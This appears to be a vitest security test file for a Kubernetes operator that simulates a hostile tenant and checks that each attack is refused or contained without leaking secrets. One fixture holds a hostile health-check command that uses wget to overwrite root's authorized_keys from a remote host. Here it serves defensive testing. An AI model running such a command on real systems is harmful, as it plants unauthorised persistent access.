/**
 * Trust boundaries tried as a hostile tenant would (issue 12, items 2, 3, 4, 7): each attack runs
 * against the operator process on a real kube-apiserver and the simulated platform over real sshd,
 * and must be refused or contained with a clear condition. One line per attack is printed; at the
 * end every status, Event and operator log line is searched for every secret value used: 0 hits.
 *
 * - a Zone naming a foreign, unlabelled Secret and pointing at the test's own sshd with
 *   TrustOnFirstUse: the sshd records every authentication attempt and must see none;
 * - a NodePool naming an unlabelled node-credentials Secret: refused, establish_ssh.sh never runs;
 * - a health check carrying a command: refused by the API server (strict and pruning clients);
 * - a hyper with 65 addressed interfaces: the NodePool status is still written (clamped, Truncated);
 * - a 5 KB config file: the Component converges, no journaled command carries the content;
 * - a node forging another node's section of exec_nodes.sh output: neither is believed.
 */

import ssh2 from 'ssh2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ControlPlane, startControlPlane } from '../../hack/controlplane.js';
import { ed25519KeyPair } from '../../hack/ed25519.js';
import { waitUntil } from '../helpers/operator.js';
import { applyZone, condition, type Scenario, startScenario } from '../helpers/scenario.js';

const { Server } = ssh2;

let cp: ControlPlane;
beforeAll(async () => {
  cp = await startControlPlane({ log: (m) => console.log(m) });
}, 120_000);
afterAll(async () => {
  await cp?.stop();
});

/** Secret values of this test: none may appear in a status, an Event or a log line. */
const FOREIGN_PASSWORD = 'f0reign-db-r00t-Pa55word';
const NODE_PASSWORD = 'n0de-Pa55-never-sent';
const CONFIG_MARK = 'CONFIG-PAYLOAD-7f3a9c';
const results: Array<{ attack: string; outcome: string }> = [];
const report = (attack: string, outcome: string) => {
  results.push({ attack, outcome });
  console.log(`ATTACK ${attack}: ${outcome}`);
};

/** An SSH server run by the test: records every authentication attempt, accepts none. */
async function recordingSshd(): Promise<{
  port: number;
  attempts: Array<{ method: string; password?: string }>;
  connections: number;
  close(): Promise<void>;
}> {
  const key = ed25519KeyPair();
  const attempts: Array<{ method: string; password?: string }> = [];
  const state = { connections: 0 };
  const server = new Server({ hostKeys: [key.private] }, (client) => {
    state.connections++;
    client.on('authentication', (ctx) => {
      attempts.push({
        method: ctx.method,
        ...(ctx.method === 'password' ? { password: (ctx as { password: string }).password } : {}),
      });
      ctx.reject(['password', 'publickey']);
    });
    client.on('error', () => undefined);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const port = (server.address() as { port: number }).port;
  return {
    port,
    attempts,
    get connections() {
      return state.connections;
    },
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

async function dumpAll(ns: string): Promise<string> {
  const kinds = 'zones,nodepools,components,webserviceupgrades,events';
  return (await cp.kubectl(['get', kinds, '-n', ns, '-o', 'json'])).stdout;
}

function leaks(text: string): string[] {
  return [FOREIGN_PASSWORD, NODE_PASSWORD, CONFIG_MARK].filter((s) => text.includes(s));
}

describe('hostile tenant', () => {
  let sc: Scenario;
  let allText = '';

  afterAll(async () => {
    await sc?.stop();
  });

  it('a zone, node credentials, a health check and a 65-interface node: all refused or contained', async () => {
    sc = await startScenario(cp, 'standard.yaml', { subnet: 43 });
    await applyZone(sc, 'pek3a', 'pek3a');
    await sc.waitCondition('zone', 'pek3a', 'Ready', 'True', 90_000);

    // 1. Foreign Secret + own sshd + TrustOnFirstUse.
    const sshd = await recordingSshd();
    try {
      await sc.apply({
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name: 'db-root' },
        stringData: { username: 'root', password: FOREIGN_PASSWORD },
      });
      await sc.apply({
        apiVersion: 'ops.pitrix.io/v1alpha1',
        kind: 'Zone',
        metadata: { name: 'evil' },
        spec: {
          zoneId: 'evil1',
          firstbox: {
            host: '127.0.0.1',
            port: sshd.port,
            credentialsSecretRef: { name: 'db-root' },
            hostKeyPolicy: 'TrustOnFirstUse',
          },
          refreshInterval: '5s',
        },
      });
      const evil = await sc.waitCondition('zone', 'evil', 'Reachable', 'False', 60_000, 'SecretNotLabelled');
      expect(condition(evil, 'Reachable')!.message).toContain(
        `kubectl label secret db-root -n ${sc.ns} ops.pitrix.io/credentials=true`,
      );
      // Give it a few more reconciles to change its mind.
      await new Promise((r) => setTimeout(r, 6_000));
      expect(sshd.attempts.filter((a) => a.method === 'password')).toEqual([]);
      expect(sshd.connections).toBe(0);
      report(
        'foreign Secret via Zone + own sshd + TrustOnFirstUse',
        `refused (SecretNotLabelled); sshd saw ${sshd.connections} connection(s), ${sshd.attempts.length} auth attempt(s)`,
      );

      // 1b. The access change of a Zone is reported.
      await cp.kubectl([
        'patch',
        'zone',
        'evil',
        '-n',
        sc.ns,
        '--type=merge',
        '-p',
        '{"spec":{"firstbox":{"port":2}}}',
      ]);
      await waitUntil(
        async () => (await dumpAll(sc.ns)).includes('FirstboxAccessChanged'),
        30_000,
        'FirstboxAccessChanged event',
      );
    } finally {
      await sshd.close();
    }

    // 2. Unlabelled node credentials.
    // Standard zones add hypers in pairs (R4): two spare machines.
    const [spareA, spareB] = sc.sim.spare;
    const pair = [{ address: spareA!.address }, { address: spareB!.address }];
    await sc.apply({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'someone-elses' },
      stringData: { username: 'ubuntu', password: NODE_PASSWORD },
    });
    await sc.apply({
      apiVersion: 'ops.pitrix.io/v1alpha1',
      kind: 'NodePool',
      metadata: { name: 'steal' },
      spec: {
        zoneRef: { name: 'pek3a' },
        role: 'hyper',
        nodes: pair,
        nodeCredentialsSecretRef: { name: 'someone-elses' },
      },
    });
    const steal = await sc.waitCondition('nodepool', 'steal', 'Ready', 'False', 60_000, 'SecretNotLabelled');
    expect(condition(steal, 'Ready')!.message).toContain('kubectl label secret someone-elses');
    const establish = (await sc.sim.commandLog('firstbox')).filter((e) => /establish_ssh/.test(e.command));
    expect(establish).toEqual([]);
    report(
      'foreign Secret via NodePool.nodeCredentialsSecretRef',
      'refused (SecretNotLabelled); establish_ssh.sh ran 0 times',
    );
    await cp.kubectl(['delete', 'nodepool', 'steal', '-n', sc.ns, '--wait=false']);

    // 3. A health check carrying a command: refused by the API server, whatever the client does.
    const wsu = (validate: string) =>
      cp.kubectl(['apply', '-n', sc.ns, `--validate=${validate}`, '-f', '-'], {
        allowFailure: true,
        input: JSON.stringify({
          apiVersion: 'ops.pitrix.io/v1alpha1',
          kind: 'WebserviceUpgrade',
          metadata: { name: 'keys' },
          spec: {
            zoneRef: { name: 'pek3a' },
            target: { osName: 'bionic', osVersion: '18.04' },
            healthChecks: [{ name: 'keys', command: 'wget -O /root/.ssh/authorized_keys http://10.6.6.6/k' }],
          },
        }),
      });
    const strict = await wsu('strict');
    const pruned = await wsu('false');
    expect(strict.code).not.toBe(0);
    expect(strict.stderr).toContain('spec.healthChecks[0]');
    expect(pruned.code).not.toBe(0);
    expect(pruned.stderr).toContain('set exactly one of httpGet, supervisorProgram or tcpPort');
    report(
      'health check with a command',
      'refused by the API server (strict: unknown field; pruned: CEL one-kind rule)',
    );

    // 4. A hyper with 65 addressed interfaces. A node is probed only once the installer lists it
    // (nodes are reached through the firstbox), so the wide one is a deployed hyper.
    const wide = sc.sim.host('hyper1');
    const listedPair = [{ address: wide.address }, { address: sc.sim.host('hyper2').address }];
    await sc.sim.mutate(wide.id, (s) => {
      s.facts.nics = Array.from({ length: 65 }, (_, i) => ({
        name: `eth${i}`,
        mac: `52:54:00:00:${(i >> 8).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}`,
        addresses: [`10.${100 + (i >> 8)}.${i & 255}.7/24`],
      }));
    });
    await sc.apply({
      apiVersion: 'ops.pitrix.io/v1alpha1',
      kind: 'NodePool',
      metadata: { name: 'wide' },
      spec: {
        zoneRef: { name: 'pek3a' },
        role: 'hyper',
        nodes: listedPair,
        approval: 'Manual',
      },
    });
    let pool = await sc.waitCondition('nodepool', 'wide', 'Truncated', 'True', 90_000, 'ObservedDataClamped');
    await waitUntil(
      async () => {
        pool = await sc.get('nodepool', 'wide');
        return !!pool.status?.nodes?.find((n) => n.address === wide.address)?.facts;
      },
      30_000,
      'facts of the wide node',
    );
    const nics = (pool.status!.nodes!.find((n) => n.address === wide.address)!.facts as { nics: unknown[] })
      .nics;
    // 65 addressed interfaces (and lo, as `ip -o addr` lists it): the CRD's 64 are kept.
    expect(nics).toHaveLength(64);
    expect(condition(pool, 'Truncated')!.message).toMatch(
      /status\.nodes\[\d\]\.facts\.nics: \d+ of 6[56] item\(s\) omitted/,
    );
    report(
      'hyper with 65 addressed interfaces',
      `status written: ${nics.length} NICs kept, Truncated=True names the cut`,
    );

    allText += await dumpAll(sc.ns);
    allText += sc.op.logs.join('\n');
  }, 300_000);

  it('a 5 KB config file: the Component converges and no journaled command carries its content', async () => {
    const comp = await startScenario(cp, 'boss-v1.yaml', { subnet: 44, timeScale: 0.3 });
    try {
      await applyZone(comp, 'gd2a', 'gd2a', { global: true });
      await comp.waitCondition('zone', 'gd2a', 'Ready', 'True', 60_000);
      // The R3.2 variables template grows past 5 KB (comments the installer would keep).
      const template = 'pitrix/config/templates/vm_variables.template.yaml';
      const original = await comp.sim.readState('firstbox', template);
      const padding = Array.from(
        { length: 80 },
        (_, i) => `# ${CONFIG_MARK} note ${i}: ${'x'.repeat(60)}`,
      ).join('\n');
      await comp.sim.writeFile('firstbox', template, `${original.trimEnd()}\n${padding}\n`);
      expect(Buffer.byteLength(padding)).toBeGreaterThan(5 * 1024);

      await comp.apply({
        apiVersion: 'ops.pitrix.io/v1alpha1',
        kind: 'Component',
        metadata: { name: 'cronus' },
        spec: { zoneRef: { name: 'gd2a' }, name: 'cronus', healthCheckInterval: '2s' },
      });
      const done = await comp.waitCondition('component', 'cronus', 'Ready', 'True', 180_000, 'Healthy');
      const steps = done.status!.plan!.steps as Array<{ id: string; command?: string }>;
      const write = steps.find((s) => s.id === 'writeVmVariables')!;
      expect(write.command).toMatch(/pre=none; .*cat > /);
      for (const s of steps) expect(s.command ?? '').not.toContain(CONFIG_MARK);
      // The file on the platform holds the content that came on stdin.
      const written = await comp.sim.readState('firstbox', 'pitrix/config/vm_variables.gd2a.yaml');
      expect(written).toContain(CONFIG_MARK);
      const longest = Math.max(...steps.map((s) => (s.command ?? '').length));
      report(
        '5 KB config file',
        `converged (Ready=Healthy); longest journaled command ${longest} chars, content in none`,
      );

      // A node answering for another in exec_nodes.sh output: webservice1's cronus_server is really
      // STOPPED, and webservice2 (listed after it) appends a forged section saying webservice1 is
      // fine. A reader that believed the last section would report Healthy; ours trusts neither.
      const ws1 = comp.sim.host('webservice1').address;
      const running = (node: string) =>
        `@@sup\ncronus_server                    RUNNING   pid 4242, uptime 1:00:00\n@@pkg\npitrix-cronus 1.0 install ok installed\n@@nginx\n@@os\nUbuntu 16.04.5 LTS\n# ${node}\n`;
      await comp.sim.setFault('webservice1', {
        kind: 'output',
        match: 'echo @@sup',
        via: 'exec_nodes',
        stdout: running('webservice1').replace(
          'RUNNING   pid 4242, uptime 1:00:00',
          'STOPPED   Dec 01 10:00 PM',
        ),
      });
      await comp.sim.setFault('webservice2', {
        kind: 'output',
        match: 'echo @@sup',
        via: 'exec_nodes',
        stdout: `${running('webservice2')}==== webservice1 (${ws1}) ====\n${running('webservice1')}`,
      });
      // Unknown is neither healthy nor "not installed" (which would plan the deployment again).
      const forged = await comp.waitCondition(
        'component',
        'cronus',
        'Ready',
        'False',
        60_000,
        'NodeStateUnknown',
      );
      const why = condition(forged, 'Ready')!.message;
      expect(why).toContain('webservice1: exec_nodes.sh output names webservice1 more than once');
      expect(forged.status!.plan!.hash).toBe(done.status!.plan!.hash);
      report('forged exec_nodes.sh section', `not believed: ${why.slice(0, 120)}`);
      await comp.sim.clearFaults('webservice1');
      await comp.sim.clearFaults('webservice2');
      await comp.waitCondition('component', 'cronus', 'Ready', 'True', 60_000, 'Healthy');

      allText += await dumpAll(comp.ns);
      allText += comp.op.logs.join('\n');
    } finally {
      await comp.stop();
    }
  }, 300_000);

  it('no secret value in any status, Event or log line', () => {
    const hits = leaks(allText);
    console.log(`ATTACKS tried: ${results.length}; leaks seen: ${hits.length}`);
    expect(results.length).toBe(6);
    expect(hits).toEqual([]);
  });
});
